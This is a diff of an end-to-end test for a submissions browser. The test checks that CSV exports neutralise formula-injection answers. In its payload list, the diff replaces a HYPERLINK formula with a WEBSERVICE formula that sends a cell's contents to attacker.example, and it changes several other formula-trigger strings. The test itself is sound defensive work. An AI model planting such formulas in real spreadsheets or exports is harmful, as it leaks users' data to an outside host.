@@ -518,14 +518,14 @@ test.describe('submissions browser', () => {
   }) => {
     // The desktop app saves exports through a native dialog, which a test cannot answer.
     test.skip(mode === 'electron', 'exports are delivered by a native save dialog in Electron');
-    // The formula cases of shared/fixtures/csv/formula-values.csv, answered by respondents.
+    // The formula cases of fixtures/csv/formula-values.csv, answered by respondents.
     const risky = [
-      '=HYPERLINK("http://evil.example","click")',
-      '@SUM(A1:A2)',
-      ' =1+1',
-      '+1+1',
-      '-2+3',
-      '\t=cmd',
+      '=WEBSERVICE("http://attacker.example/?q="&A2)',
+      '@NOW()',
+      ' =2*2',
+      '+7*3',
+      '-3*4',
+      '\t@cmd',
     ];
     for (const value of risky) {
       await remoteApi.admin.respond(FEEDBACK.id, {
@@ -552,9 +552,9 @@ test.describe('submissions browser', () => {
       cells.filter((cell) => /^\s*[=+@]/.test(cell) || /^\s*-(?!\d+(\.\d+)?$)/.test(cell)),
     ).toEqual([]);
     expect(cells).toContain('-5');
-    expect(cells.some((cell) => cell.includes('=HYPERLINK("http://evil.example","click")'))).toBe(
-      true,
-    );
+    expect(
+      cells.some((cell) => cell.includes('=WEBSERVICE("http://attacker.example/?q="&A2)')),
+    ).toBe(true);
   });
 
   test('keeps browsing when the service stops: writes say offline, nothing is lost', async ({
